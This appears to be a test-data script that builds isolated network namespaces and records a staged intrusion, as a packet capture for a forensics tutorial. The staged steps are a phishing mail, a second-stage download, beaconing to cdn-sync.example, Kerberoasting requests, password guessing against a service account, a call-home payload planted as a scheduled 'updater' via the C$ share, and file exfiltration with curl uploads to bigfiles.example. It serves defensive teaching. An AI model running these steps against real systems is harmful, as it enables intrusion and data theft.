#!/bin/bash
# Records testdata/story/branch.pcap.gz: a morning in a branch office in which a click on a link of a
# mail ends with drawings on a server outside. docs/tutorial.md investigates it, tutorial_test.go
# knows what happened from here. Real programs in private network namespaces.
#
#   sudo testdata/story/record.sh      # about two and a half minutes
#
# Needs root, ip, ethtool, tcpdump, dnsmasq, busybox udhcpc, nginx, curl, openssl, python3 with smtpd,
# krb5kdc, kadmin.local, kinit and kvno, smbd, smbclient, net, gzip and go
# (Debian: dnsmasq-base nginx-light krb5-kdc krb5-admin-server krb5-user samba smbclient).
# Nothing leaves the namespaces; all processes and namespaces are gone when the script ends.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
tag=tale$$
stretch=60 # one recorded second becomes a minute
began=2026-06-12T11:00:00Z
router=$tag-router world=$tag-world nora=$tag-nora theo=$tag-theo files=$tag-files dc=$tag-dc
spaces="$router $world $nora $theo $files $dc"
started=()

cleanup() {
	local i ns
	for ((i = ${#started[@]} - 1; i >= 0; i--)); do
		kill -KILL "${started[i]}" 2>/dev/null || true
	done
	wait 2>/dev/null || true
	for ns in $spaces; do
		ip netns del "$ns" 2>/dev/null || true
	done
	if [[ -n ${DEBUG:-} ]]; then cat "$work"/*.log >&2; fi
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

# enter NAMESPACE COMMAND... becomes the command there, with the name servers of that machine.
# unshare takes its children along when it is killed.
enter() {
	local ns=$1
	shift
	touch "$work/$ns.resolv"
	exec ip netns exec "$ns" unshare --uts --pid --fork --kill-child --mount-proc sh -c 'hostname "$0"; mount --bind "$1" /etc/resolv.conf; shift; exec "$@"' \
		"${ns#"$tag"-}" "$work/$ns.resolv" "$@"
}

# background NAMESPACE COMMAND... starts a program that cleanup ends.
background() {
	enter "$@" >>"$work/servers.log" 2>&1 </dev/null &
	started+=($!)
}

# on NAMESPACE COMMAND... runs a client; its failure is part of the traffic.
on() { (enter "$@") >>"$work/clients.log" 2>&1 </dev/null || true; }

# at SECONDS COMMAND... runs it that long after $zero.
at() {
	sleep "$(awk -v z="$zero" -v s="$1" -v n="$(date +%s.%N)" 'BEGIN { d = z + s - n; print (d > 0 ? d : 0) }')"
	shift
	"$@"
}

# every STEP FIRST LAST COMMAND... repeats it, on time.
every() {
	local step=$1 now=$2 last=$3
	shift 3
	for (( ; now <= last; now += step)); do at "$now" "$@"; done
}

# --- the network: an office behind a router, and the world ------------------------

plug() { # NAMESPACE BRIDGE MAC
	local port=p-${1#"$tag"-}
	ip -n "$router" link add "$port" type veth peer name eth0 address "$3" netns "$1"
	ip -n "$router" link set "$port" master "$2" up
	ip netns exec "$1" ethtool -K eth0 tx off rx off gso off gro off tso off >/dev/null
	ip netns exec "$router" ethtool -K "$port" tx off rx off gso off gro off tso off >/dev/null
	ip -n "$1" link set eth0 up
}

for ns in $spaces; do
	ip netns add "$ns"
	ip netns exec "$ns" sh -c 'for f in /proc/sys/net/ipv6/conf/*/disable_ipv6; do echo 1 >$f; done'
	ip -n "$ns" link set lo up
done
ip netns exec "$router" sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward'
for bridge in branch:01 world:02; do
	ip -n "$router" link add "${bridge%:*}" address "02:00:5e:40:10:${bridge#*:}" type bridge forward_delay 0 mcast_snooping 0
	ip netns exec "$router" ethtool -K "${bridge%:*}" tx off gso off gro off tso off >/dev/null
	ip -n "$router" link set "${bridge%:*}" up
done
ip -n "$router" addr add 10.40.0.1/24 dev branch
ip -n "$router" addr add 198.51.100.1/24 dev world
ip -n "$router" addr add 203.0.113.1/24 dev world
plug "$nora" branch 02:00:5e:40:00:31
plug "$theo" branch 02:00:5e:40:00:32
plug "$files" branch 02:00:5e:40:00:10
plug "$dc" branch 02:00:5e:40:00:05
plug "$world" world 02:00:5e:40:00:99
for address in 198.51.100.120 198.51.100.177 203.0.113.150 203.0.113.166; do
	ip -n "$world" addr add "$address/24" dev eth0
done
ip -n "$world" route add default via 203.0.113.1
ip -n "$files" addr add 10.40.0.10/24 dev eth0
ip -n "$dc" addr add 10.40.0.5/24 dev eth0
for ns in "$files" "$dc"; do
	ip -n "$ns" route add default via 10.40.0.1
	echo "nameserver 10.40.0.1" >"$work/$ns.resolv"
done

# --- the servers -----------------------------------------------------------------

chmod 755 "$work"
mkdir -p "$work"/{www/files,store,cert}

# Names and addresses.
cat >"$work/dnsmasq.conf" <<END
keep-in-foreground
no-resolv
no-hosts
no-ping
bind-interfaces
interface=branch
user=root
pid-file=$work/dnsmasq.pid
dhcp-leasefile=$work/leases
dhcp-range=10.40.0.100,10.40.0.199,255.255.255.0,12h
dhcp-authoritative
domain=branch.test
local=/branch.test/
local=/example/
local-ttl=300
host-record=dc.branch.test,mx.branch.test,10.40.0.5
host-record=files.branch.test,10.40.0.10
host-record=daily-news.example,198.51.100.120
host-record=parcel-track.example,203.0.113.150
host-record=cdn-sync.example,203.0.113.166
host-record=bigfiles.example,198.51.100.177
dhcp-host=02:00:5e:40:00:31,10.40.0.31,nora-laptop
dhcp-host=02:00:5e:40:00:32,10.40.0.32,theo-desk
END
background "$router" dnsmasq --conf-file="$work/dnsmasq.conf" --log-facility="$work/dnsmasq.log"

# The web outside and the webmail inside. Certificates are valid at the time that is shown.
certificate() { # NAME, ISSUER
	mkdir -p "$work/cert/$1"
	: >"$work/cert/$1/index"
	echo 01 >"$work/cert/$1/serial"
	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$1" -keyout "$work/cert/$1.key" -out "$work/cert/$1.csr" 2>/dev/null
	local by=(-selfsign)
	[[ $1 == "$2" ]] || by=(-cert "$work/cert/$2.crt")
	openssl ca -batch "${by[@]}" -notext -startdate 260601000000Z -enddate 270601000000Z -md sha256 -keyfile "$work/cert/$2.key" \
		-in "$work/cert/$1.csr" -out "$work/cert/$1.crt" -outdir "$work/cert/$1" -config <(cat <<END
[ca]
default_ca = own
[own]
database = $work/cert/$1/index
serial = $work/cert/$1/serial
policy = any
[any]
commonName = supplied
END
		) 2>>"$work/servers.log"
}
certificate 'Root of Trust' 'Root of Trust'
for name in mx.branch.test bigfiles.example daily-news.example; do certificate "$name" 'Root of Trust'; done
certificate cdn-sync.example cdn-sync.example # nobody else vouches for it
web() { # NAME NAMESPACE, server blocks on standard input
	mkdir -p "$work/$1"
	{
		echo "daemon off; user root; worker_processes 1; pid $work/$1/pid; error_log $work/$1/error.log;"
		echo "events {} http { access_log off; client_max_body_size 10m; client_body_temp_path $work/$1/body; proxy_temp_path $work/$1/proxy;"
		echo "fastcgi_temp_path $work/$1/fastcgi; uwsgi_temp_path $work/$1/uwsgi; scgi_temp_path $work/$1/scgi;"
		echo "default_type application/octet-stream; root $work/www;"
		cat
		echo "}"
	} >"$work/$1.conf"
	background "$2" nginx -c "$work/$1.conf" -e "$work/$1/error.log"
}
tls() { echo "ssl_certificate $work/cert/$1.crt; ssl_certificate_key $work/cert/$1.key;"; }
web outside "$world" <<END
server { listen 198.51.100.120:80; listen 198.51.100.120:443 ssl; $(tls daily-news.example) }
server { listen 203.0.113.150:80; location /t/ { return 302 /files/Parcel_8841.zip; } }
server { listen 203.0.113.166:443 ssl; ssl_protocols TLSv1.2; $(tls cdn-sync.example) location / { return 204; } }
server { listen 198.51.100.177:443 ssl; $(tls bigfiles.example) location / { return 204; } }
END
web mail "$dc" <<END
server { listen 10.40.0.5:443 ssl; $(tls mx.branch.test) }
END
background "$dc" /usr/bin/python3 -W ignore -m smtpd -n -c DebuggingServer 10.40.0.5:25
head -c 30000 /dev/urandom >"$work/www/files/Parcel_8841.zip"
head -c 45000 /dev/urandom >"$work/www/load.bin"
printf '<!doctype html><title>News</title><p>It rained in the night, and a parcel was late.\n%.0s' {1..25} >"$work/www/index.html"
touch -d '2026-06-01 08:00:00 UTC' "$work"/www/* "$work"/www/files/*
chmod -R a+rX "$work/www"
cat >"$work/mail.txt" <<'END'
From: Parcel Track <notice@parcel-track.example>
To: Nora Quinn <nora.quinn@branch.test>
Subject: Your parcel 8841 could not be delivered
Date: Fri, 12 Jun 2026 11:02:00 +0000

Dear customer, your parcel waits for you. Please confirm the address within 24 hours:

http://parcel-track.example/t/8841?for=nora.quinn
END

# Who may log in: Kerberos, with three services whose keys are weak.
cat >"$work/krb5.conf" <<END
[libdefaults]
	default_realm = BRANCH.TEST
	dns_lookup_kdc = false
	dns_canonicalize_hostname = false
	rdns = false
	allow_weak_crypto = true
	allow_rc4 = true
[realms]
	BRANCH.TEST = {
		kdc = 10.40.0.5
	}
END
cat >"$work/kdc.conf" <<END
[realms]
	BRANCH.TEST = {
		database_name = $work/principal
		key_stash_file = $work/stash
		acl_file = $work/acl
		supported_enctypes = aes256-cts:normal
	}
END
export KRB5_CONFIG=$work/krb5.conf KRB5_KDC_PROFILE=$work/kdc.conf
{
	kdb5_util create -s -P master -r BRANCH.TEST
	for who in nora theo cifs/files.branch.test; do kadmin.local -q "addprinc -pw right +requires_preauth $who"; done
	for who in mssql/db.branch.test http/intranet.branch.test backup/files.branch.test; do kadmin.local -q "addprinc -pw right -e rc4-hmac:normal $who"; done
} >>"$work/servers.log" 2>&1
background "$dc" krb5kdc -n

# The file server. Its service "updater" is a program on its disk, which is shared with administrators,
# and is run by a schedule. Samba starts no service for anybody from afar: that is refused.
mkdir -p "$work"/smb/{private,lock,state,cache,pid,ncalrpc,log} "$work/projects" "$work/c/programs"
(cat /etc/passwd; for u in nora:7001 theo:7002; do echo "${u%:*}:x:${u#*:}:${u#*:}::/:/bin/false"; done) >"$work/passwd"
(cat /etc/group; for u in nora:7001 theo:7002; do echo "${u%:*}:x:${u#*:}:"; done) >"$work/group"
echo 'root = svc-backup' >"$work/map" # it may do anything there
echo '127.0.0.1 files.branch.test files localhost' >"$work/hosts"
cat >"$work/smb.conf" <<END
[global]
workgroup = BRANCH
netbios name = FILES
private dir = $work/smb/private
lock directory = $work/smb/lock
state directory = $work/smb/state
cache directory = $work/smb/cache
pid directory = $work/smb/pid
ncalrpc dir = $work/smb/ncalrpc
log file = $work/smb/log/%m
load printers = no
printing = bsd
printcap name = /dev/null
smb ports = 445
bind interfaces only = yes
interfaces = 10.40.0.10/24
username map = $work/map
svcctl list = updater
create mask = 0777
[projects]
path = $work/projects
read only = no
[C\$]
path = $work/c
read only = no
valid users = root
END
printf 'Minutes of Monday: the turbine is late, the offer is not.\n%.0s' {1..20} >"$work/projects/minutes.txt"
head -c 90000 /dev/urandom >"$work/projects/turbine-drawings.zip"
head -c 40000 /dev/urandom >"$work/projects/offer-2026.xlsx"
for ((i = 1000; i < 1400; i++)); do echo "$i,employee $i,$((i * 37 % 4000 + 2000))"; done >"$work/projects/salaries.csv"
chmod -R a+rwX "$work/projects" "$work/c"
printf '#!/bin/sh\nexit 0\n' >"$work/c/programs/updater"
chmod 755 "$work/c/programs/updater"
printf '[global]\nworkgroup = BRANCH\n' >"$work/client.conf"
# What is put in its place: it calls home every other minute.
cat >"$work/payload" <<'END'
#!/bin/sh
for i in $(seq 1 25); do curl -sk -m 5 -A Mozilla/5.0 -o /dev/null https://cdn-sync.example/s/files; sleep 2; done
END
background "$files" unshare --mount bash -euc '
	for file in passwd group hosts; do mount --bind "$0/$file" "/etc/$file"; done
	for user in nora theo root; do printf "right\nright\n" | smbpasswd -c "$0/smb.conf" -s -a "$user"; done
	exec smbd -F --no-process-group -s "$0/smb.conf"' "$work"

# --- the clients -----------------------------------------------------------------

cat >"$work/udhcpc.script" <<'END'
#!/bin/sh
case $1 in
bound)
	ip addr add "$ip/$mask" dev "$interface"
	ip route replace default via "$router"
	for server in $dns; do echo "nameserver $server"; done >/etc/resolv.conf
	;;
esac
END
chmod +x "$work/udhcpc.script"
lease() { background "$1" busybox udhcpc -f -i eth0 -x "hostname:$2" -s "$work/udhcpc.script"; }

browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/139.0'
get() { on "$1" curl -skL -m 20 -A "$browser" -o /dev/null "${@:2}"; }
smb() { on "$1" sh -c 'cd "$0" && exec timeout 20 smbclient -s "$1" "$2" -U "$3" -c "$4"' "$work/store" "$work/client.conf" "${@:2}"; }
krb() { # NAMESPACE USER SERVICE...
	on "$1" env KRB5CCNAME="FILE:$work/cache-$2" sh -c 'echo right | kinit "$0" && [ $# -eq 0 ] || kvno "$@"' "${@:2}"
}
tickets() { on "$1" env KRB5CCNAME="FILE:$work/cache-$2" kvno "${@:3}"; }
beacon() { on "$nora" curl -sk -m 5 -A Mozilla/5.0 -o /dev/null https://cdn-sync.example/s/nora; }
sleep 6

ip netns exec "$router" tcpdump -i branch -s 0 -U -w "$work/branch.pcap" 2>"$work/tcpdump.log" &
recorder=$!
started+=("$recorder")
until grep -q 'listening on' "$work/tcpdump.log" 2>/dev/null; do sleep 0.05; done
zero=$(date +%s.%N)

# Seconds below are recorded seconds, and so minutes after eleven. docs/tutorial.md is about these lines.
jobs=()
job() { at "$@" & jobs+=($!); }
at 0.4 lease "$theo" theo-desk
at 0.9 lease "$nora" nora-laptop
job 2 on "$world" curl -s --interface 203.0.113.150 smtp://10.40.0.5/mail.parcel-track.example --mail-from notice@parcel-track.example --mail-rcpt nora.quinn@branch.test --upload-file "$work/mail.txt"
job 3 krb "$theo" theo cifs/files.branch.test
job 3.5 krb "$nora" nora cifs/files.branch.test
job 4 smb "$theo" //files.branch.test/projects theo%right 'ls; get minutes.txt'
job 5 get "$nora" https://mx.branch.test/
job 5.5 smb "$nora" //files.branch.test/projects nora%right 'get minutes.txt'
job 7 get "$nora" 'http://parcel-track.example/t/8841?for=nora.quinn'              # 11:07 the click
job 9 on "$nora" curl -s -m 20 -A 'Mozilla/4.0 (compatible; MSIE 7.0)' -o /dev/null http://203.0.113.150/load.bin # 11:09 the second stage
every 2 10 118 beacon &                                                             # 11:10 to 12:58, every other minute
jobs+=($!)
every 9 6 118 get "$theo" http://daily-news.example/ &                              # what an office does
jobs+=($!)
every 17 8 118 get "$theo" https://daily-news.example/ &
jobs+=($!)
job 31 tickets "$nora" nora mssql/db.branch.test http/intranet.branch.test backup/files.branch.test # 11:31 tickets to crack
for guess in 36:winter 37:spring 38:summer 39:autumn 40:backup 41:secret; do        # 11:36 guesses
	job "${guess%:*}" smb "$nora" //10.40.0.10/projects "svc-backup%${guess#*:}" ls
done
job 45 smb "$nora" '//10.40.0.10/C$' svc-backup%right "cd programs; put $work/payload updater" # 11:45 right
job 47 on "$nora" timeout 20 net -s "$work/client.conf" rpc service start updater -I 10.40.0.10 -U svc-backup%right # 11:47 no
job 53 on "$files" sh "$work/c/programs/updater" # 11:53 its schedule runs it
job 56 smb "$nora" '//10.40.0.10/C$' svc-backup%right 'cd programs; del updater'
job 60 smb "$nora" //10.40.0.10/projects svc-backup%right 'prompt; mget turbine-drawings.zip offer-2026.xlsx salaries.csv' # 12:00 what it was about
job 75 on "$nora" curl -sk -m 20 -A Mozilla/5.0 -o /dev/null -T "$work/projects/turbine-drawings.zip" https://bigfiles.example/in/1 # 12:15 out
job 78 on "$nora" curl -sk -m 20 -A Mozilla/5.0 -o /dev/null -T "$work/projects/offer-2026.xlsx" https://bigfiles.example/in/2
wait "${jobs[@]}"
at 120 true
kill -INT "$recorder"
wait "$recorder" || true
(cd "$here/../.." && go run ./testdata/shift -from "$zero" -to "$began" -stretch $stretch "$work/branch.pcap") | gzip -9n >"$here/branch.pcap.gz"
ls -l "$here" >&2
